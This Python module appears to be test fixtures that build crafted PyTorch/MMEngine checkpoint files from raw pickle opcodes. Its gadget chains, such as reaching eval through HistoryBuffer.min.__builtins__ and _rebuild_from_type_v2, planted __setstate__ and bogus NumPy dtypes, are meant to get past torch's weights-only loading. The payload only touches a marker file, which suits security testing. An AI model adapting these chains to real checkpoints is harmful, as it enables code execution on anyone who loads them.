"""Files that create a marker when they are loaded unsafely; they do nothing else.

A file is assembled from the few instructions of pickle that torch's safe loading
knows. Each ends as a checkpoint whose weights can be used.
"""

import pickle
import struct
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

GETATTR = b'cbuiltins\ngetattr\n'
HISTORY = b'cmmengine.logging.history_buffer\nHistoryBuffer\n'
REBUILD = b'ctorch._tensor\n_rebuild_from_type_v2\n'
ORDERED = b'ccollections\nOrderedDict\n'
DTYPE = b'cnumpy\ndtype\n'
ARRAY = b'cnumpy\nndarray\n'
EMPTY = b'}'
BUILD = b'b'


def name(path: str) -> bytes:
    module, _, attribute = path.rpartition('.')
    return f'c{module}\n{attribute}\n'.encode()


def text(value: str) -> bytes:
    encoded = value.encode()
    return b'X' + struct.pack('<I', len(encoded)) + encoded


def group(*items: bytes) -> bytes:
    return b'(' + b''.join(items) + b't'


def call(function: bytes, *args: bytes) -> bytes:
    return function + group(*args) + b'R'


def mapping(**items: bytes) -> bytes:
    return b'}(' + b''.join(text(key) + value for key, value in items.items()) + b'u'


def new(kind: bytes) -> bytes:
    return kind + b')\x81'


def attribute(owner: bytes, key: str) -> bytes:
    return call(GETATTR, owner, text(key))


def invoke(function: bytes, kind: bytes, *args: bytes) -> bytes:
    """Call any function through one that torch allows."""
    return call(REBUILD, function, kind, group(*args), EMPTY)


def find_eval() -> bytes:
    """Reach eval from a method of a class that may be named."""
    names = attribute(attribute(HISTORY, 'min'), '__builtins__')
    take = attribute(names, '__getitem__')
    return invoke(take, attribute(take, '__class__'), text('eval'))


def content() -> bytes:
    """An array's bytes, as pickle writes them."""
    return call(name('_codecs.encode'), text('a' * 8), text('latin1'))


def array(dtype: bytes, data: bytes) -> bytes:
    rebuild = name('numpy._core.multiarray._reconstruct')
    empty = call(rebuild, ARRAY, group(b'K\x00'), text('b'))
    return empty + group(b'K\x01', group(b'K\x01'), dtype, b'\x89', data) + BUILD


def numbers() -> bytes:
    return array(call(DTYPE, text('f8'), b'\x89', b'\x88'), content())


def object_dtype() -> bytes:
    """A dtype of float64 that claims to have a field of Python objects."""
    made = call(DTYPE, text('f8'), b'\x89', b'\x88')
    inner = call(DTYPE, text('O8'))
    fields = mapping(a=group(inner, b'K\x00'))
    state = group(
        b'K\x03',
        text('<'),
        b'N',
        group(text('a')),
        fields,
        b'K\x08',
        b'K\x01',
        b'K\x00',
    )
    return made + state + BUILD


def history(values: bytes, **more: bytes) -> bytes:
    fields = mapping(
        _log_history=values, _count_history=values, max_length=b'K\x09', **more
    )
    return new(HISTORY) + fields + BUILD


def code(marker: Path) -> bytes:
    return text(f"__import__('pathlib').Path({str(marker)!r}).touch() or {{}}")


def planted(kind: bytes, marker: Path) -> bytes:
    """An object whose second state is given to a function that the first planted."""
    first = mapping(__setstate__=find_eval()) + BUILD
    return new(kind) + first + code(marker) + BUILD


def address_of_nothing() -> bytes:
    """A dict with an attribute from which NumPy takes the address of an array."""
    interface = mapping(
        data=group(b'K\x08', b'\x88'), shape=group(b'K\x01'), typestr=text('<f8')
    )
    return call(ORDERED) + mapping(__array_interface__=interface) + BUILD


# What stands in the place of a checkpoint's meta data. The first four run on MMEngine
# with TORCH_FORCE_WEIGHTS_ONLY_LOAD=1.
TRICKS: dict[str, Callable[[Path], bytes]] = {
    'getattr': lambda m: invoke(find_eval(), attribute(EMPTY, '__class__'), code(m)),
    'history': lambda m: planted(HISTORY, m),
    'statistics': lambda m: history(
        numbers(), statistics_methods=mapping(min=find_eval())
    ),
    'second state': lambda m: (
        history(numbers(), __setstate__=ORDERED) + code(m) + BUILD
    ),
    'dict': lambda m: planted(name('collections.Counter'), m),
    'namespace': lambda m: planted(name('argparse.Namespace'), m),
    'eval': lambda m: call(name('builtins.eval'), code(m)),
    'rebuild': lambda m: invoke(name('builtins.eval'), EMPTY, code(m)),
    'planted eval': lambda m: (
        new(name('argparse.Namespace'))
        + mapping(__setstate__=name('builtins.eval'))
        + BUILD
        + code(m)
        + BUILD
    ),
    'class': lambda m: call(name('pathlib.Path'), text(str(m))),
    'own loader': lambda m: call(name('torch.storage._load_from_bytes'), content()),
    'dtype': lambda m: array(object_dtype(), content()),
    'objects': lambda m: array(call(DTYPE, text('O8')), b']' + text('x') + b'a'),
    'array of a name': lambda m: array(text('f8'), content()),
    'new array': lambda m: call(ARRAY, group(b'K\x09'), text('O')),
    'memory': lambda m: call(HISTORY, address_of_nothing(), address_of_nothing()),
    'history of memory': lambda m: history(address_of_nothing()),
    'attribute of ours': lambda m: call(GETATTR, HISTORY, text('__init__')),
    'any attribute': lambda m: attribute(EMPTY, 'min'),
    'config': lambda m: call(name('mmengine.config.config.ConfigDict'), call(ORDERED)),
    'bytes': lambda m: call(name('builtins.bytes'), b'K\x09'),
}


def checkpoint(meta: bytes) -> bytes:
    """The pickle of a checkpoint without weights."""
    body = text('state_dict') + EMPTY + text('message_hub') + EMPTY
    return b'\x80\x02}(' + body + text('meta') + meta + b'u.'


def write_zip(path: Path, pickled: bytes) -> Path:
    """Write a pickle as torch.save writes it."""
    writer = torch._C.PyTorchFileWriter(str(path))
    writer.write_record('data.pkl', pickled, len(pickled))
    writer.write_record('byteorder', b'little', 6)
    writer.write_end_of_file()
    return path


def write_trick(path: Path, trick: str, marker: Path) -> Path:
    """Write a checkpoint with one of the tricks."""
    return write_zip(path, checkpoint(TRICKS[trick](marker)))


def write_program(path: Path, marker: Path) -> Path:
    """Write a checkpoint of plain data whose configs are programs."""
    program = f"__import__('pathlib').Path({str(marker)!r}).touch()\n"
    meta = dict(epoch=0, iter=0, cfg=program, config=program)
    hub = dict(log_scalars={}, runtime_info={}, resumed_keys={})
    torch.save(dict(state_dict={}, message_hub=hub, meta=meta), path)
    return path


class Touch:
    """Pickled as a call that creates the marker."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return Path.touch, (self.marker,)


def write_other_formats(folder: Path, marker: Path) -> list[Path]:
    """Write files that torch.load reads in other ways than a zip of a pickle."""
    state = {'state_dict': {'a': torch.ones(1)}, 'meta': Touch(marker)}
    names = ('pickle.pth', 'old.pth', 'new.pth', 'script.pth')
    plain, old, saved, script = (folder / each for each in names)
    plain.write_bytes(pickle.dumps(state, protocol=2))
    torch.save(state, old, _use_new_zipfile_serialization=False)
    torch.save(state, saved)
    with warnings.catch_warnings():
        warnings.simplefilter('ignore')
        torch.jit.save(torch.jit.script(torch.nn.Linear(1, 1)), script)
    return [plain, old, saved, script]
